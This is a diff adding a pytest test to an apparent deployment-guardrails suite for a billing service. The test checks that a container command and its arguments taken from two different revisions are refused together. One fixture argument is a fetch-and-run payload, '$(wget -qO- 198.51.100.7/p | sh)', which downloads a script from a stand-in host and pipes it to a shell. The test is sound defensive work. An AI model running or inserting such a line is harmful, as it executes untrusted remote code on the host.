@@ -663,6 +663,24 @@ def test_the_last_healthy_command_is_accepted(billing):
     assert billing_reasons(billing, lambda c: c.update(command=command)) == []
 
 
+def test_a_command_and_args_from_two_revisions_are_refused_together(billing):
+    """Each half ran, but never with the other: the live shell with the healthy
+    revision's arguments runs those arguments as a script."""
+    live = copy.deepcopy(billing.deployment)
+    container(live)["command"] = ["sh", "-c"]
+    container(live)["args"] = ["exec billing-worker"]
+    healthy = guardrails.containers_by_name(guardrails.pod_spec(billing.last_healthy_template))
+    healthy["worker"]["args"] = ["$(wget -qO- 198.51.100.7/p | sh)"]
+    past = billing.model_copy(update={"deployment": live})
+    proposed = copy.deepcopy(live)
+    container(proposed)["args"] = healthy["worker"]["args"]  # the live command kept
+    assert_refused(
+        guardrails.check(live, proposed, past, SETTINGS), "command and args:", "never ran together"
+    )
+    container(proposed)["command"] = healthy["worker"].get("command")  # the healthy pair
+    assert guardrails.check(live, proposed, past, SETTINGS) == []
+
+
 def test_removing_a_command_the_healthy_revision_had_is_refused(billing):
     """The healthy revision ran an override: the fix restores it, and never hands the
     container to the image's own entrypoint, which it never ran."""
